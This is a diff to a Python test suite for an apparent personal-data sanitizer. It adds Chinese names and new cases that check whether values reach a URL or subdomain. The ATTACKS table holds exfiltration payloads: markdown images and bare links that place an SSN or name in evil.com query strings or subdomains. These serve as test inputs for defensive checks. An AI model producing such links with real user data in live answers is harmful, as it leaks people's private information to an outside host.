@@ -13,6 +13,7 @@ from engine.core.types import Category, Cost, Kind, Replacement, Sanitized, Span
 
 SSN, THEIRS = "078-05-1120", "512-44-9031"
 NAME, SENT_NAME = "Anna Becker", "Maria Lopez"
+HAN_NAME, SENT_HAN_NAME = "李娜", "王芳"
 SIZES = (1, 3, 17, 100_000)
 
 ATTACKS = {
@@ -39,6 +40,13 @@ ATTACKS = {
     "Markdown, one slash of each kind": f"![p](/\\evil/?q={THEIRS})",
     "Markdown, a tab as entity": f"![p](/&Tab;/evil/?q={THEIRS})",
     "Markdown, a reference": f"[x]:\n < https://evil.com/a b?q={THEIRS}>\n\n![x]",
+    "a name's last word": f"See {SENT_NAME}.evil.com/x now",
+    "a name's last word, without a path": f"See {SENT_NAME}.evil.com now",
+    "a name in one": "See MariaLopez.evil.com, or maria-lopez.evil.com.",
+    "a name with a bar": "See Maria_Lopez.evil.com/x now",
+    "a word behind it": "See Lopez_x.evil.com/x and Lopez-x.evil.com now",
+    "a country": "See Lopez.evil.co.uk, Lopez.evil.rocks",
+    "a name without spaces": "见王芳.evil.com和王芳是.evil.com/x",
 }  # fmt: skip
 
 OWN = (
@@ -54,6 +62,11 @@ OWN = (
     'url = "https://docs.kept.test/?n=Maria Lopez"',
     "a: b // Maria Lopez",
     "1 < 2, https://evil.com/x Maria Lopez",
+    "Maria_Lopez.tar.gz, Lopez.pdf, notes.Lopez.docx",
+    "response.data.Lopez, Lopez.address.street",
+    "Lopez.de is hers. Lopez.She said so",
+    "The end.Maria Lopez. e.g.Maria Lopez",
+    "见王芳。王芳是医生",
 )
 
 
@@ -61,7 +74,11 @@ def restored(answer: str, size: int) -> str:
     """What comes of an answer to a prompt with two values and a host, in chunks of a size."""
     original = text = "See https://docs.kept.test/start."
     changes = []
-    values = ((SSN, THEIRS, Kind.SSN), (NAME, SENT_NAME, Kind.PERSON))
+    values = (
+        (SSN, THEIRS, Kind.SSN),
+        (NAME, SENT_NAME, Kind.PERSON),
+        (HAN_NAME, SENT_HAN_NAME, Kind.PERSON),
+    )
     for value, surrogate, kind in values:
         here, there = len(original) + 1, len(text) + 1
         spans = Span(here, here + len(value)), Span(there, there + len(surrogate))
@@ -82,4 +99,7 @@ def test_an_address_of_others_holds_no_value(name: str, size: int) -> None:
 @pytest.mark.parametrize("size", SIZES)
 @pytest.mark.parametrize("answer", OWN)
 def test_words_beside_an_address_come_back(answer: str, size: int) -> None:
-    assert restored(answer, size) == answer.replace(SENT_NAME, NAME)
+    expected = answer.replace(SENT_HAN_NAME, HAN_NAME)
+    for theirs, ours in zip(SENT_NAME.split(), NAME.split(), strict=True):
+        expected = expected.replace(theirs, ours)
+    assert restored(answer, size) == expected
